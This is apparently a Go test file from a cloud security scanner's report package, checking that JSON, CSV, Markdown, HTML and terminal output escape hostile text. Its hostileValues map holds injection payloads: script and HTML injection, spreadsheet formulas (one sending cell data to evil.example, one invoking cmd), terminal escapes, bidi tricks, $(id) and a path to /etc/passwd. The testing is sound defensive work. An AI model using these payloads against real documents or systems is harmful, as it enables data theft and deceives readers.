package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/ourshare/ourshare/internal/finding"
	"github.com/ourshare/ourshare/internal/result"
)

// hostileValues are what an intruder, or somebody who is only careless, may write into names, tags and descriptions. Each
// holds the word m4rk, by which a report shows that it did not drop it.
var hostileValues = map[string]string{
	"html":                "<img src=x onerror=alert(1)>m4rk</td></table><h1>ok",
	"script":              "</script><script>alert('m4rk')</script><!--",
	"attribute":           `m4rk" onmouseover="alert(1)" x='`,
	"template":            "{{.Scan}} ${m4rk} #{7*7} {% x %}",
	"formula":             "=HYPERLINK(\"http://evil.example/?\"&A1,\"m4rk\")",
	"formula: plus":       "+1+cmd|' /C m4rk'!A0",
	"formula: minus":      "-2+3+m4rk",
	"formula: at":         "@SUM(1;1)*m4rk",
	"formula: tab":        "\t=1+1 m4rk",
	"formula: return":     "\r=1+1 m4rk",
	"formula: full width": "＝1+1 m4rk",
	"formula: plus wide":  "＋1 m4rk",
	"formula: minus wide": "－1 m4rk",
	"formula: at wide":    "＠SUM m4rk",
	"formula: space":      " \u00a0=1+1 m4rk",
	"formula: semicolon":  "m4rk;=1+1;\t@x",
	"csv":                 "m4rk\",\"fake\",\"row\"\r\nfinding,pass,low",
	"markdown":            "**m4rk** _x_ [link](https://evil.example) ![i](https://evil.example/x.png) # h",
	"markdown: table":     "m4rk | pass | ok |\n| --- |\n| x |",
	"markdown: code":      "m4rk ` `` ``` ~~~ \\` \\",
	"markdown: mentions":  "@octocat m4rk#1 GH-1 octo/cat#2 :tada: $x$ [^1]",
	"markdown: addresses": "m4rk https://evil.example www.evil.example a@evil.example <https://evil.example>",
	"markdown: entities":  "m4rk &lt;b&gt; &#64;octocat &nbsp;",
	"markdown: newline":   "m4rk\n\n# a heading\n\n---\n\n- a list\n> a quote",
	"terminal":            "m4rk\x1b[2J\x1b[31m\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\b\b\b",
	"terminal: C1":        "m4rk\u009b31m\u0090q\u009c\u0085",
	"line":                "m4rk\r\nhigh  nothing to see\v\f\u2028\u2029",
	"bidi":                "m4rk\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
	"zero width":          "m4\u200brk m4rk\u200c\u200d\u2060\ufeff\u00ad\u034f\u3164",
	"tag characters":      "m4rk\U000e0001\U000e0041\U000e007f",
	"private use":         "m4rk\ue000\U000f0000",
	"NUL":                 "m4rk\x00x",
	"DEL":                 "m4rk\x7f",
	"invalid UTF-8":       "m4rk\xff\xfe\xc3(\xed\xa0\x80\xf0\x9f",
	"emoji":               "m4rk 👩‍💻🏳️‍🌈🇩🇪",
	"right to left":       "m4rk שלום مرحبا",
	"combining":           "m4rkZ̷̢̛͓a̴l̸g̵o̶",
	"long":                "m4rk " + strings.Repeat("long ", 2048),
	"long, no break":      "m4rk" + strings.Repeat("x", 10240),
	"quotes":              `m4rk '"'"' $(id) ` + "`id`" + ` \n \x1b %s %!d(string=x)`,
	"path":                "../../m4rk/../etc/passwd\\..\\",
	"spaces":              "   m4rk   ",
	"null":                "null m4rk undefined NaN true",
}

// hostileResult is the full result with the value in every text that may come from the account or from people.
func hostileResult(v string) *result.Result {
	r := fullResult()
	for i := range r.Findings {
		f := &r.Findings[i]
		f.Resource.ID, f.Resource.Name, f.Message = v, v, v
		f.Resource.Tags = map[string]string{v: v, "owner": v}
		f.Evidence = finding.Evidence{{Key: v, Value: v}, {Key: "list", Value: []string{v, v}}}
		note := f.With()
		note.Owner = v
		if f.Reason != nil {
			f.Reason.Text = v
		}
		if note.Suppression != nil {
			note.Suppression.Reason, note.Suppression.Owner = v, v
		}
		if note.Attestation != nil {
			note.Attestation.By, note.Attestation.Evidence = v, v
		}
		if note.History != nil && note.History.TicketKey != "" {
			note.History.TicketKey = v
		}
	}
	for i := range r.Comparison.Changes {
		c := &r.Comparison.Changes[i]
		c.Reason, c.Resource.Name, c.Resource.ID, c.Resource.ARN = v, v, v, "arn:aws:s3:::"+v
		c.Resource.Tags = map[string]string{v: v}
	}
	for i := range r.Unobserved {
		u := &r.Unobserved[i]
		u.Why, u.Message, u.Resource.Name, u.Resource.ID = v, v, v, v
		u.Evidence = finding.Evidence{{Key: v, Value: v}}
	}
	for _, entries := range [][]result.ExceptionEntry{r.Exceptions.Suppressions, r.Exceptions.Attestations} {
		for i := range entries {
			entries[i].Selector, entries[i].Reason, entries[i].Owner, entries[i].Evidence = v, v, v, v
		}
	}
	r.Exceptions.Warnings, r.Scan.Gaps, r.Scan.CallerARN = []string{v}, []string{v}, v
	for i := range r.Scan.ByAccount {
		r.Scan.ByAccount[i].Name, r.Scan.ByAccount[i].Reason = v, v
	}
	for i := range r.Coverage {
		r.Coverage[i].Reasons = []string{v}
	}
	for i := range r.Tickets { // their body is Markdown already
		t := &r.Tickets[i]
		t.Title, t.Labels, t.Owner, t.Reason = v, []string{v}, v, v
	}
	return r
}

// TestHostile writes every hostile value in every format: the value stays data, is not dropped, and no character of it
// reaches a terminal or an editor that would hide or forge what is read.
func TestHostile(t *testing.T) {
	own := map[string]func(*testing.T, string, []byte){
		"json": hostileJSON, "ndjson": hostileLines, "ocsf": hostileLines, "csv": hostileCSV, "markdown": hostileMarkdown,
	}
	allowed := map[string]string{"csv": "\r\n", "html": "\n\t"}
	for _, f := range Formats {
		t.Run(f.Name, func(t *testing.T) {
			for name, v := range hostileValues {
				var b bytes.Buffer
				if err := f.Write(&b, hostileResult(v), Look{Width: 120}); err != nil {
					t.Errorf("%s: %v", name, err)
					continue
				}
				if !utf8.Valid(b.Bytes()) {
					t.Errorf("%s: it is no UTF-8", name)
				}
				for _, r := range b.String() {
					if hidden(r) && r != '\n' && !strings.ContainsRune(allowed[f.Name], r) {
						t.Errorf("%s: the character %U stands in it as it is", name, r)
						break
					}
				}
				if !bytes.Contains(b.Bytes(), []byte("m4rk")) {
					t.Errorf("%s: it was dropped", name)
				}
				if check := own[f.Name]; check != nil {
					t.Run(name, func(t *testing.T) { check(t, v, b.Bytes()) })
				}
			}
		})
	}
}

// replaced is what JSON makes of bytes that are no UTF-8.
func replaced(v string) string { return string([]rune(v)) }

func hostileJSON(t *testing.T, v string, out []byte) {
	var got struct {
		Findings []result.Finding `json:"findings"`
	}
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Findings) != len(fullResult().Findings) {
		t.Fatalf("%d findings", len(got.Findings))
	}
	for _, f := range got.Findings {
		if f.Resource.Name != replaced(v) || f.Message != replaced(v) || f.Owner != replaced(v) || f.Resource.Tags["owner"] != replaced(v) {
			t.Errorf("%q, %q, %q; want %q", f.Resource.Name, f.Message, f.Owner, replaced(v))
		}
	}
}

func hostileLines(t *testing.T, v string, out []byte) {
	exact, n := 0, 0
	for line := range bytes.Lines(out) {
		n++
		var got any
		if err := json.Unmarshal(line, &got); err != nil {
			t.Fatalf("line %d: %v", n, err)
		}
		if holds(got, replaced(v)) {
			exact++
		}
	}
	r := fullResult()
	if want := len(r.Findings) + len(r.Unobserved) + 1 + 4; n != want || exact != want { // one is gone, four gaps
		t.Errorf("%d lines, %d with the exact value; want %d", n, exact, want)
	}
}

// holds says whether a JSON value has the text somewhere.
func holds(value any, text string) bool {
	switch value := value.(type) {
	case string:
		return value == text
	case []any:
		return slices.ContainsFunc(value, func(v any) bool { return holds(v, text) })
	case map[string]any:
		for _, v := range value {
			if holds(v, text) {
				return true
			}
		}
	}
	return false
}

func hostileCSV(t *testing.T, v string, out []byte) {
	if strings.Contains(strings.ReplaceAll(string(out), "\r\n", ""), "\n") {
		t.Error("a line does not end as RFC 4180 asks")
	}
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll() // refuses rows of another length
	if err != nil {
		t.Fatal(err)
	}
	r := fullResult()
	if want := 1 + len(r.Findings) + len(r.Unobserved) + 1 + 4; len(rows) != want {
		t.Errorf("%d rows, want %d", len(rows), want)
	}
	name, evidence := slices.Index(rows[0], "resource_name"), slices.Index(rows[0], "evidence")
	for i, row := range rows[1:] {
		for _, c := range row {
			for part := range strings.SplitSeq(c, ";") { // a spreadsheet may take it for the separator
				if part = strings.TrimSpace(part); part != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(part)[0]) {
					t.Errorf("row %d: a cell that is calculated: %q", i, c)
				}
			}
		}
		if got := strings.ReplaceAll(row[name], "'", ""); row[0] == kindFinding && got != strings.ReplaceAll(Visible(v), "'", "") {
			t.Errorf("row %d: the name is %q", i, got)
		}
		if row[0] == kindFinding && !json.Valid([]byte(row[evidence])) {
			t.Errorf("row %d: the evidence is no JSON: %.200q", i, row[evidence])
		}
	}
}

var (
	codeSpan = regexp.MustCompile("`[^`\n]*`")
	markup   = regexp.MustCompile("[<>\\[\\]@$~&\\\\`^_{}]|://|(?i:www\\.)|#[0-9]|:[a-z]+:|\\bGH-[0-9]")
)

func hostileMarkdown(t *testing.T, _ string, out []byte) {
	if n := utf8.RuneCount(out); n > mdLimit {
		t.Errorf("%d characters do not fit into a comment", n)
	}
	columns, sections := 0, 0
	for line := range strings.Lines(string(out)) {
		text := codeSpan.ReplaceAllString(line, "")
		if found := markup.FindString(text); found != "" {
			t.Errorf("%q is markup in %q", found, line)
		}
		if !strings.HasPrefix(line, "|") {
			columns = 0
			if strings.HasPrefix(line, "#") {
				sections++
			}
			continue
		}
		switch n := strings.Count(line, "|"); {
		case columns == 0:
			columns = n
		case n != columns:
			t.Errorf("a row of %d columns in a table of %d: %q", n-1, columns-1, line)
		}
	}
	if sections != 6 {
		t.Errorf("%d headings", sections)
	}
}

// TestHostileGolden keeps a result with every hostile value for the validators of test/validators.
func TestHostileGolden(t *testing.T) {
	r := fullResult()
	var names []string
	for name := range hostileValues {
		names = append(names, name)
	}
	slices.Sort(names)
	for _, name := range names {
		v := hostileValues[name]
		if len(v) > 1000 {
			v = v[:1000] // the file stays small; the long ones are tested above
		}
		hostile := hostileResult(v)
		r.Scan.Gaps = append(r.Scan.Gaps, hostile.Scan.Gaps...)
		for _, status := range []finding.Status{finding.Fail, finding.Unknown} {
			f := hostile.Findings[slices.IndexFunc(hostile.Findings, func(f finding.Finding) bool { return f.Status == status })]
			f.Resource.ARN += "/" + name
			f.Fingerprint = finding.Fingerprint("aws", f.AccountID, f.Rule.ID, f.Resource)
			r.Findings = append(r.Findings, f)
		}
	}
	r.Summarize()
	var b bytes.Buffer
	if err := writeJSON(&b, r, Look{}); err != nil {
		t.Fatal(err)
	}
	golden(t, "hostile.json", b.Bytes())
}
